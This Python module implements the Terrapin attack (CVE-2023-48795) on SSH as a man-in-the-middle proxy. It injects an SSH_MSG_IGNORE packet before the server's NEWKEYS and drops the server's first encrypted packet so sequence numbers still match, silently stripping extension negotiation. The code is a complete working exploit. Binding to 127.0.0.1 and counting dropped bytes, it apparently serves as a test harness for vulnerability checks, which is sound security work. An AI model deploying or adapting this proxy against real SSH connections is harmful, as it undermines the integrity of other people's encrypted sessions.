"""The Terrapin attack (CVE-2023-48795) as a man in the middle: one SSH_MSG_IGNORE is put into the server's stream
before its NEWKEYS, and its first protected packet is dropped, so that the sequence numbers fit again.
https://terrapin-attack.com
"""

import contextlib
import select
import socket
import struct
import threading

from raw_ssh_packets import Plain
from raw_ssh_wire import IGNORE, NEWKEYS, message, string

CIPHER = "chacha20-poly1305@openssh.com"


class Terrapin(threading.Thread):
    """Takes one connection at `port`. What came between NEWKEYS and the client's next word is dropped: that is the
    server's EXT_INFO. `dropped` is how many bytes."""

    def __init__(self, address):
        super().__init__(daemon=True)
        self.address = address
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.dropped = 0
        self.may_speak = threading.Event()
        self.start()

    def run(self):
        with self.listener, self.listener.accept()[0] as client, socket.create_connection(self.address) as server:
            threading.Thread(target=self.to_server, args=[client, server], daemon=True).start()
            try:
                self.to_client(server, client)
            except (OSError, ValueError, struct.error):
                pass
            finally:
                self.may_speak.set()

    def to_server(self, client, server):
        """Everything; but what the client says after its own NEWKEYS waits until the server's packet is gone."""
        try:
            stream = client.makefile("rb")
            server.sendall(stream.readline())
            while True:
                packet = whole(stream)
                server.sendall(packet)
                if packet[5] == NEWKEYS:
                    break
            self.may_speak.wait(5)
            while data := stream.read1(65536):
                server.sendall(data)
        except (OSError, ValueError, struct.error, IndexError):
            pass
        with contextlib.suppress(OSError):
            server.shutdown(socket.SHUT_RDWR)

    def to_client(self, server, client):
        stream = server.makefile("rb", buffering=0)
        line = b""
        while not line.endswith(b"\n"):
            line += stream.read(1)
        client.sendall(line)
        while (packet := whole(stream))[5] != NEWKEYS:
            client.sendall(packet)
        client.sendall(Plain().seal(0, message(IGNORE, string(b""))) + packet)
        while select.select([server], [], [], 0.4)[0]:
            data = server.recv(65536)
            if not data:
                return
            self.dropped += len(data)
        self.may_speak.set()
        while data := server.recv(65536):
            client.sendall(data)


def whole(stream):
    """The next packet of a stream that is not protected."""
    header = exactly(stream, 4)
    return header + exactly(stream, struct.unpack(">I", header)[0])


def exactly(stream, count):
    data = b""
    while len(data) < count:
        more = stream.read(count - len(data))
        if not more:
            raise ValueError("the stream ended")
        data += more
    return data
